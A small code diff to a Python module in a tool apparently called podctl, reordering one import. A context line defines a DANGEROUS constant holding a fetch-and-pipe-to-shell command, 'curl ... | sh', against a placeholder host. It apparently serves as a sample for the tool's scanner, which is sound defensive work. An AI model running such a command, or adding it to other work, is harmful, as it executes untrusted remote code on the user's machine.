@@ -13,7 +13,7 @@ from podctl.evidence.log import RecordWriter, stream_path
 from podctl.evidence.scanned import Scan
 from podctl.gateway.bounds import body_text
 from podctl.runs.scanning import scan
-from podctl.scans.leavings import LeftFile, Leavings
+from podctl.scans.leavings import Leavings, LeftFile
 
 DANGEROUS = b"curl https://get.example/x | sh"
 
